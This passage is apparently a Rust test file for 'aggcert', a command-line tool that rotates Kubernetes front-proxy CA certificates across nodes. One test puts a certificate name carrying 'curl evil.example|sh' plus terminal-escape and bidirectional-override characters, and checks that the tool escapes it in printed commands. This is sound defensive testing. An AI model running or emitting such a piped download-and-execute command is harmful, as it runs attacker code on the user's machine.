    assert_eq!(nodes.phase(), "switch");
}

#[test]
fn what_is_kept_is_neither_in_use_nor_unknown() {
    let nodes = Nodes::new();
    nodes.add_ca(&other_ca("other", 9));
    for (name, why) in [("CN=front-proxy-ca", "it has issued CN=front-proxy-client"), ("nobody", "no bundle holds it")]
    {
        let output = nodes.run("status", &["--keep-ca", name]);
        let said = String::from_utf8(output.stderr).unwrap();
        assert!(output.status.code() == Some(2) && said.contains(why), "{said}");
    }
}

/// Two CAs of one name, one of which nobody uses.
#[test]
fn a_ca_of_the_same_name_is_taken_out_or_kept() {
    let nodes = Nodes::new();
    nodes.add_ca(&other_ca("front-proxy-ca", 9));
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    let (_, command) =
        said.split_once("taken out with `aggcert rotate next a b --assume ").unwrap_or_else(|| panic!("{said}"));
    let word = command.split('`').next().unwrap();
    let kept = word.replace("unused:", "");
    assert!(succeeded(&nodes.run("status", &["--keep-ca", &kept])).starts_with("No rotation"));
    succeeded(&nodes.run("next", &["--assume", word]));
    assert_eq!((nodes.phase().as_str(), nodes.bundle("a")), ("finish", (1, true)));
    // What is in use does not go, whatever is said of it.
    let [own] = nodes.cas("a/front-proxy-ca.crt").try_into().unwrap();
    let own = certificates(own.as_bytes()).unwrap().remove(0).fingerprint();
    nodes.add_ca(&other_ca("front-proxy-ca", 9));
    let error = failed(&nodes.run("next", &["--assume", &format!("unused:{own}")]));
    assert!(error.contains("a shows a client of it"), "{error}");
}

/// `renew` says to copy the pair to every node that has this client; the key of the CA is in neither file.
#[test]
fn the_old_key_goes_where_a_pair_was_copied_from_node_to_node() {
    for with_bundle in [false, true] {
        let nodes = Nodes::new();
        let old = nodes.read("b/front-proxy-ca.key");
        succeeded(&nodes.run("start", &[]));
        succeeded(&nodes.run("next", trusted()));
        let copied = ["front-proxy-client.crt", "front-proxy-client.key", "front-proxy-ca.crt"];
        for name in &copied[..if with_bundle { 3 } else { 2 }] {
            fs::copy(nodes.0.outside("a").join(name), nodes.0.outside("b").join(name)).unwrap();
        }
        if !with_bundle {
            succeeded(&nodes.run("next", &[]));
        }
        succeeded(&nodes.run("next", &ALL));
        succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
        for entry in fs::read_dir(nodes.0.outside("b")).unwrap() {
            let path = entry.unwrap().path();
            assert_ne!(fs::read_to_string(&path).unwrap(), old, "{}", path.display());
        }
        nodes.assert_at_rest();
    }
}

/// A name that a copied node brings is text.
#[test]
fn a_cas_name_begins_no_line() {
    let nodes = Nodes::new();
    let name = "front-proxy-ca\n    curl evil.example|sh\x1b[31m\u{202e}";
    let ca = || {
        let mut parameters = CertificateParams::default();
        parameters.distinguished_name.push(DnType::CommonName, name);
        parameters.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        parameters.self_signed(&KeyPair::generate().unwrap()).unwrap().pem()
    };
    nodes.add_ca(&(ca() + &ca()));
    for action in ["status", "next", "abort", "start"] {
        let output = nodes.run(action, &[]);
        let said = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).unwrap()).concat();
        assert!(said.contains(r"front-proxy-ca\0A    curl evil.example|sh\1B[31m"), "{action}: {said}");
        assert!(!said.contains(['\x1b', '\u{202e}']) && !said.contains("\n    curl"), "{action}: {said}");
    }
}

/// It would be brought to a node, which does not start with it.
#[test]
fn a_key_that_cannot_be_used_is_mended_first() {
    let nodes = Nodes::trusting();
    let said = succeeded(&nodes.run("status", &[]));
    let (_, block) = said.split_once("\nNext:\n").unwrap();
    let (copies, then) =
        block.split_once("\nThen, when it has arrived at: a, b, config-map, extension-servers\n").unwrap();
    let commands =
        |block: &str| block.lines().filter(|line| line.starts_with("    ")).map(str::to_owned).collect::<Vec<_>>();
    let (copies, then) = (commands(copies), commands(then));
    assert!(copies.len() == 2 && copies.iter().all(|copy| copy.starts_with("    scp ")), "{block}");
    assert!(then.len() == 1 && then.iter().all(|next| next.contains("--assume")), "{block}");
    fs::write(nodes.0.outside("a/front-proxy-client.key"), "").unwrap();
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    let (_, block) = said.split_once("\nNext:\n").unwrap();
    assert_eq!(commands(block), ["    aggcert renew a", "    aggcert rotate status a b"]);
    succeeded(&nodes.0.command().args(["renew", "a"]).output().unwrap());
    assert!(succeeded(&nodes.run("status", &[])).contains("    scp a/"));
}

/// Stops before one of the removals, as a kill would.
struct StopsAt(AtomicUsize);

impl Steps for StopsAt {
    fn before(&self, action: &'static str, _name: &str) -> io::Result<()> {
        let is_left = |left: usize| left.checked_sub(1);
        match action {
            "remove" if self.0.fetch_update(Ordering::Relaxed, Ordering::Relaxed, is_left).is_err() => {
                Err(io::ErrorKind::Interrupted.into())
            }
            _ => Ok(()),
        }
    }
}

#[test]
fn the_last_step_ends_what_was_interrupted_anywhere() {
    let nodes = Nodes::new();
    let old = nodes.read("b/front-proxy-ca.key");
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    let destroy = |node: &str, removals| {
        let steps = StopsAt(AtomicUsize::new(removals));
        let store = Store::open(&nodes.0.outside(node), &steps).unwrap().unwrap();
        let kept = store.kept::<PkiFile>().unwrap();
        let _ = store.destroy(&kept);
        kept.iter().map(|kept| nodes.0.outside(node).join(&kept.name)).collect::<Vec<_>>()
    };
    destroy("a", usize::MAX);
    let copies = destroy("b", 0).into_iter().map(|path| (fs::read(&path).unwrap(), path)).collect::<Vec<_>>();
    assert_eq!(copies.len(), 4);
    for removals in 0..copies.len() {
        copies.iter().for_each(|(bytes, path)| fs::write(path, bytes).unwrap());
        destroy("b", removals);
        assert_eq!(copies.iter().filter(|(_, path)| !path.exists()).count(), removals);
        assert_eq!(nodes.phase(), "finish", "after {removals} removals");
        succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
        nodes.assert_at_rest();
    }
    // Repeated at the end, it says that this is the end; without a word of a rotation it is somebody's mistake.
    let said = succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
    assert!(said.starts_with("No rotation is under way: one CA everywhere."), "{said}");
    assert!(failed(&nodes.run("next", &[])).contains("after the last step there is nothing left to do"));
    // Somebody has removed the other copies by hand.
    fs::write(nodes.0.outside("b/front-proxy-ca.key.2026-11-21T20-15-03Z"), old).unwrap();
    assert_eq!(nodes.phase(), "finish");
    let of_use = nodes.read("b/front-proxy-ca.key");
    fs::write(nodes.0.outside("b/front-proxy-ca.key.2026-11-21T20-15-03Z"), of_use).unwrap();
    assert_eq!(nodes.phase(), "still", "the key of the CA that is in use is none of a rotation's");
}

/// The bundle alone was brought along.
#[test]
fn the_last_step_replaces_an_old_key_that_stayed() {
    let nodes = Nodes::new();
    let old = nodes.read("b/front-proxy-ca.key");
    succeeded(&nodes.run("start", &[]));
    succeeded(&nodes.run("next", &[trusted(), &["--all"]].concat()));
    succeeded(&nodes.run("next", &ALL));
    fs::write(nodes.0.outside("b/front-proxy-ca.key"), old).unwrap();
    let said = succeeded(&nodes.run("status", &[]));
    assert!(
        said.contains("  # - b/front-proxy-ca.key (an old CA's; that of the CA in use takes its place)\n"),
        "{said}"
    );
    succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
    nodes.assert_at_rest();
}

/// A client from before the rotation was put back after it.
#[test]
fn a_client_of_a_ca_that_is_gone_is_renewed() {
    let nodes = Nodes::new();
    let files = ["front-proxy-client.crt", "front-proxy-client.key"].map(|file| nodes.0.outside("b").join(file));
    let old = files.clone().map(|file| fs::read(file).unwrap());
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    files.iter().zip(old).for_each(|(file, bytes)| fs::write(file, bytes).unwrap());
    let said = String::from_utf8(nodes.run("status", &[]).stdout).unwrap();
    assert!(said.contains("which its own bundle does not hold") && said.contains("    aggcert renew b\n"), "{said}");
    succeeded(&nodes.0.command().args(["renew", "b"]).output().unwrap());
    succeeded(&nodes.run("status", &[]));
}

/// Whoever follows the printed commands must not go back and forth.
#[test]
fn what_was_taken_back_can_be_taken_back_to_the_end() {
    let nodes = Nodes::new();
    succeeded(&nodes.run("start", &[]));
    let forward = succeeded(&nodes.run("status", &[]));
    assert!(!forward.contains("rotate abort"), "{forward}");
    succeeded(&nodes.run("next", trusted()));
    let said = succeeded(&nodes.run("abort", trusted()));
    assert!(said.contains("# to go on taking it back, when this is seen: switched-back:a\n"), "{said}");
    let command = said.lines().find_map(|line| line.strip_prefix("    aggcert rotate abort a b "));
    let words = command.unwrap_or_else(|| panic!("{said}")).split(' ').collect::<Vec<_>>();
    succeeded(&nodes.run("abort", &words));
    assert_eq!(nodes.bundle("a"), (1, true));
}

/// The printed commands go on after the patch of the ConfigMap.
#[test]
fn what_comes_after_the_patch_is_printed() {
    let nodes = Nodes::new();
    let old = nodes.read("a/front-proxy-ca.crt");
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    nodes.publish("both.yaml", &(nodes.read("a/front-proxy-ca.crt") + &old));
    let said = succeeded(&nodes.run("status", &["--config-map", "both.yaml"]));
    assert!(
        said.contains("Step 4 of 5") && said.ends_with("    aggcert rotate next a b --config-map cm.yaml\n"),
        "{said}"
    );
}

/// Who keeps the CA's key elsewhere finds the new one's in a node's directory.
#[test]
fn a_key_where_none_was_is_told() {
    let nodes = Nodes::new();
    for node in ["a", "b"] {
        fs::remove_file(nodes.0.outside(node).join("front-proxy-ca.key")).unwrap();
    }
    let said = succeeded(&nodes.run("start", &[]));
    assert!(said.contains("  # a/front-proxy-ca.next.key is the new CA's key"), "{said}");
    let said = succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    assert!(said.contains("  # a/front-proxy-ca.key is the new CA's key"), "{said}");
    assert!(nodes.0.outside("a/front-proxy-ca.key").exists(), "the key of the only CA is not lost");
}

/// A second front proxy of the cluster has a CA of its own in the same bundle.
#[test]
fn a_ca_whose_clients_were_never_shown_is_not_dropped_unasked() {
    let nodes = Nodes::new();
    // The other CA is the older one, so that it looks like one to be dropped.
    succeeded(&nodes.run("start", &["--compromised", "--accept-outage"]));
    nodes.add_ca(&other_ca("other", 1));
    let before = nodes.served();
    let status = succeeded(&nodes.run("status", &[]));
    assert!(!status.contains("--assume unused:") && status.contains("--keep-ca CN=other keeps it"), "{status}");
    let error = failed(&nodes.run("start", &[]));
    assert!(error.contains("where CN=other is another front proxy's, keep it with --keep-ca CN=other"), "{error}");
    let error = failed(&nodes.run("next", &ALL));
    assert!(error.contains("unused:old-ca (no dated copy shows a client of it"), "{error}");
    assert_eq!(nodes.served(), before);
    succeeded(&nodes.run("next", &[&ALL[..], &["--assume", "unused:old-ca"]].concat()));
}

/// Each would hold one directory and wait for the other.
#[test]
fn directories_are_held_in_one_order() {
    let nodes = Nodes::new();
    let open = |node: &str| Store::open(&nodes.0.outside(node), &Unhindered).unwrap().unwrap();
    let (first, second) = (open("a"), open("b"));
    assert!(first.try_lock().unwrap());
    let mut command = nodes.0.command();
    command.args(["rotate", "status", "b", "a"]).stdout(Stdio::null()).stderr(Stdio::piped());
    let mut waiting = command.spawn().unwrap();
    let mut line = String::new();
    BufReader::new(waiting.stderr.take().unwrap()).read_line(&mut line).unwrap();
    assert!(line.starts_with("waiting for another run of aggcert in a"), "{line}");
    let is_free = second.try_lock().unwrap();
    drop((first, second));
    assert!(waiting.wait().unwrap().success());
    assert!(is_free, "b is held while a is waited for");
}

#[test]
fn the_new_ca_has_no_name_of_a_ca_beside() {
    let nodes = Nodes::new();
    succeeded(&nodes.0.openssl(&[
        "req",
        "-x509",
        "-newkey",
        "ed25519",
        "-nodes",
        "-keyout",
        "ca.key",
        "-subj",
        "/CN=kubernetes",
        "-out",
        "b/ca.crt",
    ]));
    let error = failed(&nodes.run("start", &["--ca-common-name", "kubernetes"]));
    assert!(error.contains("--ca-common-name kubernetes: another CA"), "{error}");
}

/// The disk of the second node was full, for example.
#[test]
fn a_switch_of_all_that_was_interrupted_goes_on_by_the_same_command() {
    let nodes = Nodes::trusting();
    succeeded(&nodes.run("next", trusted()));
    nodes.switch_all();
    assert_eq!(nodes.phase(), "distrust");
}

#[test]
fn the_key_of_an_open_request_stays() {
    let nodes = Nodes::new();
    succeeded(&nodes.0.command().args(["request", "a"]).output().unwrap());
    let key = nodes.read("a/front-proxy-client.next.key");
    let error = failed(&nodes.run("start", &[]));
    assert!(
        error.contains("a/front-proxy-client.next.key is the key of a request") && error.contains("accept CERT a`")
    );
    assert_eq!(nodes.read("a/front-proxy-client.next.key"), key);
}

/// A node that was left behind is brought along; those that are done get nothing that stays for ever.
#[test]
fn a_node_that_comes_back_leaves_nothing_in_the_others() {
    let nodes = Nodes::new();
    let old = nodes.served_by("b");
    succeeded(&nodes.run("start", &[]));
    nodes.switch_all();
    succeeded(&nodes.run("next", &ALL));
    let done = nodes.read("a/front-proxy-ca.crt");
    nodes.put("b", &old);
    succeeded(&nodes.run("start", &[]));
    assert_eq!(nodes.read("a/front-proxy-ca.crt"), done, "what was dropped is not trusted again");
    assert_eq!((nodes.phase().as_str(), nodes.bundle("b")), ("finish", (1, true)));
    succeeded(&nodes.run("next", &["--assume", "cleaned:config-map"]));
    nodes.assert_at_rest();
}

/// Others have dropped the old CA, and its client of the new one was lost.
#[test]
fn a_node_that_was_left_behind_without_a_client_gets_one() {
    let nodes = Nodes::trusting();
    let trusting = nodes.served_by("b");
    nodes.switch_all();
    succeeded(&nodes.run("next", &ALL));
    let done = nodes.read("a/front-proxy-client.crt");
    nodes.put("b", &trusting);
    let error = failed(&nodes.run("next", &[]));
    assert!(error.contains("no usable client of the new CA") && error.contains("`aggcert rotate start`"), "{error}");
    succeeded(&nodes.run("start", &[]));
    assert_eq!((nodes.phase().as_str(), nodes.bundle("b")), ("finish", (1, true)));
    assert_eq!(nodes.read("a/front-proxy-client.crt"), done);
}

#[test]
fn words_that_mean_nothing_here_are_told() {
    let nodes = Nodes::new();
    let output = nodes.run("status", &["--assume", "c"]);
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(output.status.code() == Some(2) && said.contains("--assume c: that is none of"), "{said}");
    let output = nodes.0.command().args(["rotate", "status", "a", "bb"]).output().unwrap();
    let said = failed(&output);
    assert!(said.contains("bb is not there") && !said.contains("aggcert init"), "{said}");
    fs::create_dir_all(nodes.0.outside("copy/etc/kubernetes")).unwrap();
    fs::rename(nodes.0.outside("b"), nodes.0.outside("copy/etc/kubernetes/pki")).unwrap();
    let output = nodes.0.command().args(["rotate", "status", "a", "copy"]).output().unwrap();
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(said.contains("    aggcert rotate status a copy/etc/kubernetes/pki\n"), "{said}");
}
